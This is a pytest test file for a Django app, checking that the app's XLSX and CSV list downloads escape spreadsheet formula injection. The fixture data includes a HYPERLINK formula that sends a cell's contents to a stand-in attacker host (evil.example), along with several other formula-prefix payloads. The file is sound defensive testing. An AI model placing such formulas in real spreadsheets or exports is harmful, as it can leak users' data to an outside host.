"""A need titled like a formula comes out of the list's download as inert text."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import NeedFactory, OfferingFactory, PartnerFactory, ProjectFactory
from tests.frontend.downloads import column, table_of

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_a_formula_title_stays_text_in_the_workbook(client, secretary, tree):
    NeedFactory(code="N-EVIL", title=FORMULA, community=tree["C11"])
    client.force_login(secretary)
    response = client.get(reverse("needs"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in titles] == ["s"]
    assert titles[0].value == "'" + FORMULA


def test_a_formula_title_starts_with_an_apostrophe_in_the_csv(client, secretary, tree):
    NeedFactory(code="N-EVIL", title=FORMULA, community=tree["C11"])
    NeedFactory(code="N-CALC", title="+1+1", community=tree["C11"])
    client.force_login(secretary)
    table = table_of(client.get(reverse("needs"), {"format": "csv"}))
    assert sorted(column(table, "需求")) == sorted(["'" + FORMULA, "'+1+1"])


@pytest.mark.parametrize("name", ["needs", "projects", "partners"])
def test_no_list_download_holds_a_formula(client, secretary, tree, name):
    partner = PartnerFactory(
        code="P-EVIL", name="@SUM(A1)", contact_name="-2+3", community=tree["C11"]
    )
    offering = OfferingFactory(code="O-EVIL", partner=partner, title="\t=1+1")
    need = NeedFactory(code="N-EVIL", title=FORMULA, community=tree["C11"])
    ProjectFactory(need=need, offering=offering)
    client.force_login(secretary)
    response = client.get(reverse(name), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells, "the download holds the row"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t"))]
